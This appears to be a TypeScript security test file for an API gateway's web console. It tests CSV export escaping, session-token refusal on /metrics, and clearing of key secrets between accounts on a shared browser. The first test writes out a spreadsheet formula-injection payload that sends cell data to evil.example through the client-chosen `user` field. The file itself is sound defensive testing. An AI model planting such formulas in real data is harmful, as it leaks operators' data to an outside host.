/**
 * The web console and its browser-facing surface against a hostile client or a shared computer:
 * each test asserts the secure, documented behaviour and failed before its fix.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromiumMissing, launchBrowser, type TestBrowser } from "./support/browser.ts";
import { accountWithPassword, PASSWORD } from "./support/console-accounts.ts";
import { createUser, startTestGateway, type TestGateway } from "./support/gateway-harness.ts";

let counter = 0;
const uniqueEmail = (name: string) => `${name}-${++counter}-${Date.now()}@example.com`;

/** Splits one CSV line (RFC 4180 quoting) into its unquoted cells. */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const char = line[i]!;
    if (quoted) {
      if (char === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      cells.push(cell);
      cell = "";
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe("console, hostile: HTTP", () => {
  let gateway: TestGateway;
  beforeAll(async () => {
    gateway = await startTestGateway();
  });
  afterAll(() => gateway?.close());

  it("does not export a client-chosen `user` as a spreadsheet formula in the admin usage CSV", async () => {
    // Any paying client chooses `user` (and metadata); the operator downloads the usage of every
    // account from the console ("Export CSV") and opens it in a spreadsheet.
    const client = await createUser(gateway);
    const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")';
    const chat = await gateway.request("/v1/chat/completions", {
      key: client.key,
      json: {
        model: "gpt-4o-mini",
        messages: [{ role: "user", content: "hi" }],
        user: formula,
      },
    });
    expect(chat.status).toBe(200);
    await chat.arrayBuffer();
    const csv = await gateway.request(`/v1/admin/usage?format=csv&account=${client.accountId}`, {
      key: gateway.adminKey,
    });
    expect(csv.status).toBe(200);
    const lines = (await csv.text()).trim().split("\r\n");
    const header = csvCells(lines[0]!);
    const userColumn = header.indexOf("user");
    expect(userColumn).toBeGreaterThanOrEqual(0);
    const cell = csvCells(lines[1]!)[userColumn]!;
    expect(cell).toContain("HYPERLINK");
    // A cell a spreadsheet would evaluate starts with =, +, -, @, tab or carriage return.
    expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("refuses an admin's login session on /metrics (an admin key or the scrape token only)", async () => {
    const admin = await accountWithPassword(gateway, "admin", { email: uniqueEmail("ops") });
    const login = await gateway.request("/v1/account/login", {
      json: { email: admin.email, password: PASSWORD },
    });
    expect(login.status).toBe(200);
    const { token } = (await login.json()) as { token: string };
    expect(token).toMatch(/^sess_/);
    const metrics = await gateway.request("/metrics", { key: token });
    await metrics.arrayBuffer();
    // docs/accounts.md: a session token is refused (401 invalid_api_key) outside the account
    // routes, the console's reads and the admin API; docs/metrics.md: an admin account's key or
    // the scrape token.
    expect(metrics.status).toBe(401);
  });
});

describe.skipIf(chromiumMissing !== undefined)("console, hostile: browser", () => {
  let gateway: TestGateway;
  let browser: TestBrowser;
  beforeAll(async () => {
    gateway = await startTestGateway();
    browser = await launchBrowser();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await gateway?.close();
  });

  it("forgets the previous account's key secrets when its session ends and another account logs in", {
    timeout: 120_000,
  }, async () => {
    const alice = await accountWithPassword(gateway, "user", { email: uniqueEmail("alice") });
    const bob = await accountWithPassword(gateway, "user", { email: uniqueEmail("bob") });
    const page = await browser.newPage();
    const logIn = async (email: string) => {
      await page.getByLabel("Email", { exact: true }).fill(email);
      await page.getByLabel("Password", { exact: true }).fill(PASSWORD);
      await page.getByRole("button", { name: "Log in" }).click();
      await page.getByRole("heading", { level: 1, name: "Balance" }).waitFor();
    };
    const open = async (label: string, title: string) => {
      await page.getByRole("link", { name: label, exact: true }).click();
      await page.getByRole("heading", { level: 1, name: title }).waitFor();
    };

    await page.goto(`${gateway.url}/console/login`);
    await logIn(alice.email);
    await open("API keys", "API keys");
    await page.getByLabel("Name", { exact: true }).fill("alice-key");
    await page.getByRole("button", { name: "Create key" }).click();
    await page.getByText('New key "alice-key".').waitFor();
    // The key list reloads after a creation: let it finish, or its 401 below (not the click)
    // would bring up the log-in form, and the click would wait for a link that is gone.
    await page.waitForLoadState("networkidle");

    // Alice's session ends without her pressing "Log out": the cookie's Max-Age passes (or
    // she logged out in another tab). The browser drops the cookie; the open page learns it
    // at its next call (401) and shows the log-in form. Bob, at the same computer, logs in.
    await browser.context.clearCookies();
    // Whatever call comes first gets the 401: the click, or a reload still under way.
    await page
      .getByRole("link", { name: "Balance", exact: true })
      .click({ timeout: 5_000 })
      .catch(() => {});
    await page.getByRole("heading", { level: 1, name: "Log in" }).waitFor();
    await logIn(bob.email);
    await open("Playground", "Playground");

    // Bob tries the playground without choosing a key.
    const picker = page.getByLabel("API key", { exact: true });
    const offered = await picker.locator("option").allTextContents();
    await page.getByLabel("Model", { exact: true }).selectOption("gpt-4o-mini");
    await page.getByLabel("Message", { exact: true }).fill("Who pays for this?");
    await page.getByRole("button", { name: "Send" }).click();
    await Promise.race([
      page.getByTestId("call-cost").waitFor({ timeout: 20_000 }),
      page.getByRole("alert").waitFor({ timeout: 20_000 }),
    ]).catch(() => {});
    await page.waitForLoadState("networkidle");
    const balance = (await (
      await gateway.request(`/v1/admin/accounts?email=${encodeURIComponent(alice.email)}`, {
        key: gateway.adminKey,
      })
    ).json()) as { data: Array<{ balance_micros: number }> };
    // Alice's secret is neither offered to Bob nor used (and charged) for Bob's call.
    expect({
      aliceBalance: balance.data[0]!.balance_micros,
      offered: offered.filter((text) => text.includes("alice-key")),
    }).toEqual({ aliceBalance: 5_000_000, offered: [] });
    await page.close();
  });
});
